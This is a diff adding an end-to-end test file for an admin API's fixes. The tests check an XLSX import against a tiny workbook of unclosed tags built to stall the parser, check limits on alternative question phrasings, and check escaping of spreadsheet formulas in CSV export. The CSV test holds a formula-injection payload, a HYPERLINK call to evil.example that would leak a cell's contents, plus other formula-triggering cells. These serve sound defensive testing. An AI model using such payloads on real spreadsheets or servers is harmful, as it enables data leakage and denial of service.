@@ -1,0 +1,101 @@
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { parseCsv } from "../src/kb/import/csv";
+import { xlsxZip } from "../src/kb/import/test-xlsx";
+import { apiClient } from "./helpers/admin-api";
+import { startTestServer, type TestServer } from "./helpers/server";
+
+/**
+ * Review of the issue-14 admin API, end to end against a real server: what an attacker's or a careless
+ * user's input did before these fixes.
+ */
+
+let s: TestServer;
+let admin: string;
+beforeAll(async () => {
+  s = await startTestServer({ log: { level: "warn" }, answer: { ask_open: true } });
+  admin = await s.login("admin");
+}, 30_000);
+afterAll(() => s.stop());
+
+type Json = Record<string, any>;
+const api = apiClient(() => s, () => admin);
+const ask = async (text: string) =>
+  (await (await fetch(`${s.url}/api/ask`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ text, lang: "en" }) })).json()) as Json;
+const logIdsOf = (prefix: string) =>
+  (s.kefu.ctx.db.query("SELECT id FROM insights_answers WHERE question LIKE ? ORDER BY id").all(`${prefix}%`) as { id: number }[]).map((r) => r.id);
+
+describe("xlsx import", () => {
+  test("a tiny workbook whose rows never close is read in linear time (it blocked the server for minutes)", async () => {
+    // 200,000 unclosed <row> tags deflate to about 2 KB; the row pattern rescanned the rest of the sheet from each.
+    const book = xlsxZip({ "xl/worksheets/sheet1.xml": `<worksheet><sheetData>${"<row>".repeat(200_000)}<c><v>1</v></c></sheetData></worksheet>`, "xl/sharedStrings.xml": `<sst>${"<si><t>".repeat(100_000)}</sst>` });
+    expect(book.length).toBeLessThan(10_000);
+    const res = await fetch(`${s.url}/api/admin/kb/import?dry_run=true&format=xlsx`, {
+      method: "POST",
+      headers: { authorization: `Bearer ${admin}`, "content-type": "application/octet-stream" },
+      body: book,
+    });
+    expect(res.status).toBe(200);
+    expect(((await res.json()) as Json).rejected[0].error).toContain("empty file");
+  });
+});
+
+describe("resolving unanswered questions", () => {
+  test("a visitor's 3,500-character question does not become an alternative the entry API then refuses to save", async () => {
+    await ask(`zq1 where is my order ${"please ".repeat(500)}`);
+    await ask("zq1 where is my order now");
+    const r = await api("/api/admin/unanswered/resolve", { body: { log_ids: logIdsOf("zq1"), entry: { question: "Where is my order?", answer: "See the tracking link." } } });
+    expect(r.status).toBe(200);
+    const entry = ((await r.json()) as Json).entry;
+    expect(entry.alt_questions).toEqual(["zq1 where is my order now"]);
+    // The console saves an entry with its own alternatives: that must still pass the entry API's limits.
+    const put = await api(`/api/admin/kb/entries/${entry.id}`, { method: "PUT", body: { alt_questions: entry.alt_questions } });
+    expect(put.status).toBe(200);
+  });
+
+  test("adding phrasings never takes an entry past the entry API's 500 alternatives", async () => {
+    const alts = Array.from({ length: 499 }, (_, i) => `zq2 phrasing number ${i}`);
+    expect((await api("/api/admin/kb/entries", { body: { id: "zq2-full", question: "zq2 full entry?", answer: "yes", alt_questions: alts } })).status).toBe(201);
+    await ask("zq2 brand new wording alpha");
+    await ask("zq2 another wording beta");
+    const r = await api("/api/admin/unanswered/resolve", { body: { log_ids: logIdsOf("zq2"), entry_id: "zq2-full" } });
+    expect(r.status).toBe(400);
+    expect(((await r.json()) as Json).error.message).toContain("500");
+    expect(s.kefu.ctx.kb.get("zq2-full")!.alts.length).toBe(499);
+    // The rows stay unanswered: nothing was resolved.
+    expect(s.kefu.ctx.insights.byIds(logIdsOf("zq2")).every((row) => row.resolved === null)).toBe(true);
+    // One phrasing still fits.
+    const one = await api("/api/admin/unanswered/resolve", { body: { log_ids: logIdsOf("zq2"), entry_id: "zq2-full", phrasings: ["zq2 brand new wording alpha"] } });
+    expect(one.status).toBe(200);
+    const entry = ((await one.json()) as Json).entry;
+    expect(entry.alt_questions.length).toBe(500);
+    expect((await api(`/api/admin/kb/entries/${entry.id}`, { method: "PUT", body: { alt_questions: entry.alt_questions } })).status).toBe(200);
+  });
+});
+
+describe("CSV export", () => {
+  test("cells an office suite would run as formulas are escaped, and import reads them back unchanged", async () => {
+    // A visitor's question becomes an alternative through the Unanswered list: not only admins write these cells.
+    const body = {
+      id: "zq3-formula",
+      question: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
+      answer: "+86 400 123 4567",
+      alt_questions: ["@SUM(1+1)", "-1+2 is a question too", "'=already quoted"],
+      tags: ["=tag"],
+    };
+    expect((await api("/api/admin/kb/entries", { body })).status).toBe(201);
+    const res = await api("/api/admin/kb/export?format=csv");
+    const bytes = new Uint8Array(await res.arrayBuffer());
+    // A byte-order mark, as the template has: Excel reads UTF-8 (Chinese entries) only with one.
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const text = new TextDecoder().decode(bytes);
+    const { records, error } = parseCsv(text);
+    expect(error).toBeUndefined();
+    const row = records.find((r) => r.fields[0] === "zq3-formula")!;
+    for (const cell of row.fields) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    // Exported and imported back: nothing changes.
+    const back = await fetch(`${s.url}/api/admin/kb/import?dry_run=true`, { method: "POST", headers: { authorization: `Bearer ${admin}`, "content-type": "text/csv" }, body: text });
+    const report = (await back.json()) as Json;
+    expect(report.counts).toMatchObject({ added: 0, updated: 0, rejected: 0 });
+    expect(report.unchanged.map((u: Json) => u.id)).toContain("zq3-formula");
+  });
+});
